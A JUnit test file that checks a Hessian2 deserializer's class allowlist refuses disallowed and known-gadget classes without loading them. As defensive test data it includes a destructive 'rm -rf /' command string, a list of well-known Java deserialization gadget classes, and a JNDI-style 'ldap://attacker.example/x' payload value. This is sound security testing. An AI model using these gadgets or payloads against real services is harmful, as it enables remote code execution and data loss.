package dev.ferry.serialization.hessian2;

import dev.ferry.api.spi.ClassAllowlist;
import dev.ferry.serialization.ClassRefusedException;
import dev.ferry.serialization.DefaultClassAllowlist;
import dev.ferry.serialization.fixtures.Gadget;
import dev.ferry.serialization.fixtures.Holder;
import dev.ferry.serialization.fixtures.OrderLine;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.PriorityQueue;
import java.util.Set;
import java.util.concurrent.ConcurrentHashMap;

import static dev.ferry.serialization.hessian2.Wire.PERMISSIVE;
import static dev.ferry.serialization.hessian2.Wire.raw;
import static dev.ferry.serialization.hessian2.Wire.read;
import static dev.ferry.serialization.hessian2.Wire.readObject;
import static dev.ferry.serialization.hessian2.Wire.writeObject;
import static dev.ferry.serialization.hessian2.Wire.writeObjectNamed;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

class AllowlistEnforcementTest {

    private static final String FIXTURES = "dev.ferry.serialization.fixtures.";

    private static final ClassAllowlist JDK = DefaultClassAllowlist.jdkDefaults();

    private static ClassRefusedException refused(byte[] bytes, ClassAllowlist allowlist) {
        return assertThrows(ClassRefusedException.class, () -> readObject(bytes, allowlist));
    }

    @Test
    void refusedClassIsNeverInstantiated() throws IOException {
        Gadget gadget = new Gadget("rm -rf /");
        byte[] bytes = writeObject(gadget);
        int constructed = Gadget.CONSTRUCTED.get();
        int resolved = Gadget.RESOLVED.get();

        ClassRefusedException e = refused(bytes, JDK);

        assertEquals(Gadget.class.getName(), e.className());
        assertFalse(e.knownGadget());
        assertTrue(e.getMessage().contains("class " + Gadget.class.getName() + " is not allowed for deserialization"), e.getMessage());
        assertTrue(e.getMessage().contains("ServiceConfig.allowClass"), e.getMessage());
        assertEquals(constructed, Gadget.CONSTRUCTED.get());
        assertEquals(resolved, Gadget.RESOLVED.get());

        // positive control: the detector does see an instance that is created
        Object back = readObject(bytes, DefaultClassAllowlist.builder().allowClass(Gadget.class).build());
        assertEquals("rm -rf /", assertInstanceOf(Gadget.class, back).getCommand());
        assertEquals(resolved + 1, Gadget.RESOLVED.get());
    }

    @Test
    void refusedWhereverItIsNested() throws IOException {
        ClassAllowlist allowlist = DefaultClassAllowlist.builder().allowClass(Holder.class).build();
        int resolved = Gadget.RESOLVED.get();
        // in a list, in a map value, in a map key, in an Object[] and in a field of an allowed class
        assertEquals(Gadget.class.getName(), refused(writeObject(new ArrayList<>(List.of("a", new Gadget("x")))), allowlist).className());
        Map<String, Object> map = new HashMap<>();
        map.put("k", new Gadget("x"));
        assertEquals(Gadget.class.getName(), refused(writeObject(map), allowlist).className());
        Map<Object, String> keyed = new HashMap<>();
        keyed.put(new Gadget("x"), "v");
        assertEquals(Gadget.class.getName(), refused(writeObject(keyed), allowlist).className());
        assertEquals(Gadget.class.getName(), refused(writeObject(new Object[] {1, new Gadget("x")}), allowlist).className());
        assertEquals(Gadget.class.getName(), refused(writeObject(new Gadget[] {new Gadget("x")}), allowlist).className());
        // hessian-lite wraps failures inside fields in its own exception; the refusal is unwrapped
        assertEquals(Gadget.class.getName(), refused(writeObject(new Holder(new Gadget("x"))), allowlist).className());
        assertEquals(resolved, Gadget.RESOLVED.get());
    }

    @Test
    void refusedAsTheExpectedTypeOfATypedRead() throws IOException {
        // an untyped map read as a refused declared type: no class name in the bytes at all
        byte[] bytes = writeObject(new HashMap<>(Map.of("command", "x")));
        int resolved = Gadget.RESOLVED.get();
        ClassRefusedException e = assertThrows(ClassRefusedException.class,
                () -> read(bytes, JDK).readObject(Gadget.class, Gadget.class));
        assertEquals(Gadget.class.getName(), e.className());
        assertEquals(resolved, Gadget.RESOLVED.get());
    }

    @Test
    void refusedClassIsNotEvenLoaded() throws IOException {
        String gadget = FIXTURES + "NeverLoadedGadget";
        String probe = FIXTURES + "StaticInitProbe";
        RecordingLoader loader = new RecordingLoader(getClass().getClassLoader());
        Hessian2Serialization serialization = new Hessian2Serialization(loader);
        byte[] gadgetBytes = raw(out -> writeObjectNamed(out, gadget, "command", "calc"));
        byte[] arrayBytes = raw(out -> {
            out.writeListBegin(1, "[" + gadget);
            writeObjectNamed(out, gadget, "command", "calc");
        });

        for (byte[] bytes : List.of(gadgetBytes, arrayBytes)) {
            ClassRefusedException e = assertThrows(ClassRefusedException.class,
                    () -> serialization.deserialize(new ByteArrayInputStream(bytes), JDK).readObject());
            assertEquals(gadget, e.className());
        }
        assertFalse(loader.requested.contains(gadget), "the refused class was looked up: " + loader.requested);
        assertNull(System.getProperty("ferry.test.NeverLoadedGadget.initialised"), "static initialiser ran");

        // positive control: an allowed class is loaded through that loader and initialised on use
        byte[] probeBytes = raw(out -> writeObjectNamed(out, probe, "command", "ok"));
        Object back = serialization.deserialize(new ByteArrayInputStream(probeBytes),
                DefaultClassAllowlist.builder().allowClass(probe).build()).readObject();
        assertEquals(probe, back.getClass().getName());
        assertTrue(loader.requested.contains(probe));
        assertEquals("true", System.getProperty("ferry.test.StaticInitProbe.initialised"));
    }

    @Test
    void priorityQueueIsRefusedEvenWhenItsPackageIsAllowed() throws IOException {
        byte[] bytes = writeObject(new PriorityQueue<>(List.of(3, 1, 2)));
        ClassAllowlist javaUtil = DefaultClassAllowlist.builder().allowPackage("java.util").build();
        ClassRefusedException e = refused(bytes, javaUtil);
        assertEquals("java.util.PriorityQueue", e.className());
        assertTrue(e.knownGadget());
        assertTrue(e.getMessage().contains("known deserialization gadgets"), e.getMessage());
        // and whatever a custom allowlist says
        assertEquals("java.util.PriorityQueue", refused(bytes, PERMISSIVE).className());
    }

    @Test
    void gadgetTypeNamesInsideAMapAreRefused() throws IOException {
        for (String gadget : List.of("com.sun.rowset.JdbcRowSetImpl",
                "javax.management.BadAttributeValueExpException",
                "org.apache.commons.collections.functors.InvokerTransformer",
                "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
                "java.lang.ProcessBuilder",
                "sun.print.UnixPrintServiceLookup")) {
            byte[] bytes = raw(out -> {
                out.writeMapBegin("java.util.HashMap");
                out.writeString("payload");
                writeObjectNamed(out, gadget, "dataSourceName", "ldap://attacker.example/x");
                out.writeMapEnd();
            });
            ClassAllowlist allowingItsPackage = DefaultClassAllowlist.builder()
                    .allowPackage(gadget.substring(0, gadget.lastIndexOf('.')))
                    .allowClass(gadget)
                    .build();
            for (ClassAllowlist allowlist : List.of(JDK, allowingItsPackage, PERMISSIVE)) {
                ClassRefusedException e = refused(bytes, allowlist);
                assertEquals(gadget, e.className());
                assertTrue(e.knownGadget(), gadget);
            }
        }
    }

    @Test
    void typedListAndMapNamesAreChecked() throws IOException {
        byte[] list = raw(out -> {
            out.writeListBegin(1, FIXTURES + "Gadget");
            out.writeInt(1);
        });
        assertEquals(FIXTURES + "Gadget", refused(list, JDK).className());
        byte[] map = raw(out -> {
            out.writeMapBegin(FIXTURES + "Gadget");
            out.writeString("k");
            out.writeInt(1);
            out.writeMapEnd();
        });
        assertEquals(FIXTURES + "Gadget", refused(map, JDK).className());
    }

    @Test
    void classValuesAreAlwaysRefused() throws IOException {
        // hessian-lite would load (and initialise) the class a Class value names
        byte[] bytes = writeObject(String.class);
        assertEquals("java.lang.Class", refused(bytes, JDK).className());
        assertTrue(refused(bytes, PERMISSIVE).knownGadget());
        byte[] named = raw(out -> writeObjectNamed(out, "java.lang.Class", "name", FIXTURES + "NeverLoadedGadget"));
        assertEquals("java.lang.Class", refused(named, PERMISSIVE).className());
        // a Class-typed read of an untyped map never reaches hessian-lite's ClassDeserializer
        byte[] untyped = writeObject(new HashMap<>(Map.of("name", FIXTURES + "NeverLoadedGadget")));
        ClassRefusedException e = assertThrows(ClassRefusedException.class,
                () -> read(untyped, PERMISSIVE).readObject(Class.class, Class.class));
        assertEquals("java.lang.Class", e.className());
        assertNull(System.getProperty("ferry.test.NeverLoadedGadget.initialised"));
    }

    @Test
    void hessianHandlesFollowTheTypeTheyStandFor() throws IOException {
        byte[] date = writeObject(java.time.LocalDate.of(2024, 1, 2));
        assertEquals(java.time.LocalDate.of(2024, 1, 2), readObject(date, JDK));
        ClassRefusedException e = refused(date, name -> !name.startsWith("java.time."));
        assertEquals("com.alibaba.com.caucho.hessian.io.java8.LocalDateHandle", e.className());
    }

    @Test
    void unknownButAllowedClassIsReadAsAMap() throws IOException {
        byte[] bytes = raw(out -> writeObjectNamed(out, "com.example.NotOnTheClassPath", "name", "v"));
        Object back = readObject(bytes, DefaultClassAllowlist.builder().allowPackage("com.example").build());
        assertEquals(Map.of("name", "v"), back);
    }

    @Test
    void aCustomLambdaAllowlistWorks() throws IOException {
        ClassAllowlist onlyLines = name -> name.equals(OrderLine.class.getName()) || name.startsWith("java.util.");
        assertEquals(List.of(new OrderLine("a", 1)), readObject(writeObject(new ArrayList<>(List.of(new OrderLine("a", 1)))), onlyLines));
        assertEquals(Gadget.class.getName(), refused(writeObject(new Gadget("x")), onlyLines).className());
    }

    @Test
    void theAllowlistIsAskedOnEveryRead() throws IOException {
        java.util.concurrent.atomic.AtomicBoolean open = new java.util.concurrent.atomic.AtomicBoolean(true);
        ClassAllowlist switchable = name -> open.get() || !name.equals(OrderLine.class.getName());
        byte[] bytes = writeObject(new OrderLine("a", 1));
        assertEquals(new OrderLine("a", 1), readObject(bytes, switchable));
        open.set(false);
        assertEquals(OrderLine.class.getName(), refused(bytes, switchable).className());
        assertThrows(ClassRefusedException.class, () -> read(bytes, switchable).readObject(OrderLine.class, OrderLine.class));
    }

    /** Records every class name asked of it. */
    static final class RecordingLoader extends ClassLoader {
        final Set<String> requested = ConcurrentHashMap.newKeySet();

        RecordingLoader(ClassLoader parent) {
            super(parent);
        }

        @Override
        protected Class<?> loadClass(String name, boolean resolve) throws ClassNotFoundException {
            requested.add(name);
            return super.loadClass(name, resolve);
        }
    }
}
